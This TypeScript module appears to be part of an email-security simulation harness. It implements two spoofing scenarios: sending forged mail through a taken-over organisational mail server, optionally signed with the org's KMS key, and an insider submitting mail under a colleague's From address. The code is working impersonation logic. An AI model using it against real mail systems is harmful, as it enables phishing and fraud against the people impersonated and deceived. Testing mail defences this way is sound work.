import { buildMultipartSigned, signSignedData } from '@ssmax/core';
import { composeMail, formatAddress, splitTopLevel } from './compose-mail.js';
import type { AttackerContext, OrgAccountFoothold, OrgMailServerFoothold } from './footholds.js';
import { OutcomeRecorder, type AttackOutcome } from './outcome.js';
import { deliverAndRecord, type MailContent } from './spoof-direct.js';

export interface OrgServerSendOptions extends MailContent {
  /** Any address: the takeover lets the attacker write whatever From it likes. */
  readonly from: string;
  readonly displayName?: string;
  readonly to: string | readonly string[];
  /** MAIL FROM; default the From address. */
  readonly envelopeFrom?: string;
  /** Wrap the mail in multipart/signed with the org's KMS signing key (only if the foothold has it). */
  readonly signWithKms?: boolean;
}

/**
 * Incident 1 (Emotet-style): the org's own mail server is the attacker's. It injects mail through the
 * real server as any address, so the mail leaves from the org's addresses with the org's DKIM and SPF. With
 * the KMS key too, it can also produce the org's signature over whatever it wrote.
 */
export async function sendViaTakenOverServer(ctx: AttackerContext, foothold: OrgMailServerFoothold, o: OrgServerSendOptions): Promise<AttackOutcome> {
  const rec = new OutcomeRecorder('org-server-takeover');
  const to = typeof o.to === 'string' ? [o.to] : [...o.to];
  const from = formatAddress(o.displayName, o.from);
  let raw =
    o.raw ??
    composeMail({
      from,
      to,
      subject: o.subject ?? '',
      text: o.text ?? '',
      ...(o.attachments ? { attachments: o.attachments } : {}),
      ...(ctx.now ? { date: ctx.now() } : {}),
    });
  rec.act(`controls the org mail server; writes From: ${from}`);
  if (o.signWithKms) {
    if (!foothold.kmsSign) {
      rec.act('tried to use the org KMS signing key: the takeover did not reach the KMS');
      rec.fail('KMS_UNAVAILABLE', 'Cannot sign with the org key. The foothold does not include the KMS signing key.');
      return rec.done();
    }
    // RFC 8551 §3.5.3: the org key signs the whole entity the attacker wrote; headers stay outside.
    const { headers, entity } = splitTopLevel(raw);
    const sig = await signSignedData(entity, {
      key: foothold.kmsSign.key,
      certificate: foothold.kmsSign.certificate,
      chain: [...(foothold.kmsSign.chain ?? [])],
      detached: true,
    });
    const outer = Buffer.from(buildMultipartSigned(entity, sig));
    // buildMultipartSigned starts with "MIME-Version: 1.0\r\n"; keep the attacker's headers in front instead.
    raw = new Uint8Array(Buffer.concat([Buffer.from(headers.replace(/^MIME-Version:.*\r\n/im, ''), 'latin1'), outer]));
    rec.act('signed the mail with the org KMS signing key');
  }
  return deliverAndRecord(ctx, rec, {
    target: foothold.smtpSubmit,
    envelope: { from: o.envelopeFrom ?? o.from, to },
    raw,
    ...(foothold.auth ? { auth: foothold.auth } : {}),
  });
}

export interface ColleagueSpoofOptions extends MailContent {
  /** The colleague whose address goes into From. */
  readonly colleague: string;
  readonly displayName?: string;
  readonly to: string | readonly string[];
  /** MAIL FROM: default the attacker's own account (what a stock MSA accepts); or the colleague. */
  readonly envelopeFrom?: 'own' | 'colleague';
}

/**
 * §3.1: an authenticated user of the org submits through the real MSA with a colleague's From. SPF and
 * DKIM pass (the org's own server sends and signs), so only a server that binds From to the login — or a
 * signature with the colleague's card — notices.
 */
export async function spoofColleague(ctx: AttackerContext, foothold: OrgAccountFoothold, o: ColleagueSpoofOptions): Promise<AttackOutcome> {
  const rec = new OutcomeRecorder('spoof-colleague');
  const to = typeof o.to === 'string' ? [o.to] : [...o.to];
  const from = formatAddress(o.displayName, o.colleague);
  const raw =
    o.raw ??
    composeMail({
      from,
      to,
      subject: o.subject ?? '',
      text: o.text ?? '',
      ...(o.attachments ? { attachments: o.attachments } : {}),
      ...(ctx.now ? { date: ctx.now() } : {}),
    });
  rec.act(`logged in to the org MSA as ${foothold.user}; From: ${from}`);
  const envelopeFrom = o.envelopeFrom === 'colleague' ? o.colleague : foothold.user;
  return deliverAndRecord(ctx, rec, {
    target: foothold.smtpSubmit,
    envelope: { from: envelopeFrom, to },
    raw,
    auth: { user: foothold.user, pass: foothold.password },
  });
}
